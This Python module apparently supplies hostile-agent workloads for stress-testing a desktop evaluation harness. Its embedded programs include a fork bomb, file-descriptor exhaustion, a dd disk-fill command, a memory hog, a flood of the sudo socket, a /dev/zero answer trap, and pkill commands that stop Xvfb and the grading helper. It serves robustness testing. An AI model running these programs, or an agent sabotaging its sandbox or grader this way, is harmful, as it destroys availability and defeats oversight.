"""What a hostile policy runs in its desktop, as Python programs for the desktop's own interpreter."""

BOMB = """
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        time.sleep(0.001)
"""
IN_FLIGHT = """
import os, socket, time
pairs = []
try:
    while True:
        pairs.append(socket.socketpair())
        for _ in range(4):
            socket.send_fds(pairs[-1][0], [b"x"], [0] * 250)
except OSError as error:
    print(error.strerror, flush=True)
os.close(1)
time.sleep(60)
"""
"""Sends descriptors that no program receives, until the kernel refuses more of this user's."""
FILL = "for folder in /tmp /dev/shm /run/user/1000 /home/user; do dd if=/dev/zero of=$folder/big bs=1M; done"
GO = (5, 5)
"""Where a policy moves the pointer to begin."""

_EVERYTHING = """
import contextlib, itertools, os, random, socket, subprocess, time
from Xlib.display import Display

rng = random.Random({seed})

def bomb():
    exec({bomb!r})

def in_flight():
    exec({in_flight!r})

def fill():
    subprocess.run({fill!r}, shell=True)

def hog():
    hoard = []
    while True:
        with contextlib.suppress(MemoryError):
            hoard.append(os.urandom(1 << 20))

def spin():
    while True:
        pass

def connect_and_close():
    while True:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect("/run/sudo.socket")
            one.sendall(os.urandom(rng.randrange(3000)))

def answer_without_end():
    os.symlink("/dev/zero", "/tmp/answer")
    for number, megabytes in enumerate((900, 60, 30)):
        with open(f"/tmp/giant-{{number}}", "wb") as file:
            file.truncate(megabytes << 20)
    while True:
        with contextlib.suppress(OSError):
            os.unlink("/run/user/1000/terminal.txt")
        with contextlib.suppress(OSError):
            os.symlink("/dev/zero", "/run/user/1000/terminal.txt")

def stop_helpers():
    for name, number in itertools.cycle((("[o]sworld_guest", "STOP"), ("[o]sworld_guest", "KILL"), ("dbus", "STOP"))):
        subprocess.run(["pkill", f"-{{number}}", "-f", name])
        time.sleep(0.2)

def end_screen():
    time.sleep(rng.uniform(2.0, 10.0))
    how = ("pkill -KILL Xvfb", "pkill -STOP Xvfb", "ipcrm --all=shm; pkill -TERM Xvfb", "pkill -KILL openbox")
    subprocess.run(rng.choice(how), shell=True)

root = Display().screen().root
while (root.query_pointer().root_x, root.query_pointer().root_y) != {go}:
    time.sleep(0.05)
lasting = (answer_without_end, connect_and_close, in_flight, spin, spin, spin, spin)
ending = (end_screen, stop_helpers, fill, hog, hog, bomb) if {is_deadly} else ()
for attack in lasting + ending:
    if os.fork() == 0:
        os.setsid()
        try:
            attack()
        finally:
            os._exit(0)
"""


def everything(seed: int, *, is_deadly: bool) -> str:
    """All attacks at once, from the moment that the pointer is at GO. Without `is_deadly`, only those attacks after
    which the desktop can still be graded."""
    return _EVERYTHING.format(seed=seed, bomb=BOMB, in_flight=IN_FLIGHT, fill=FILL, go=GO, is_deadly=is_deadly)
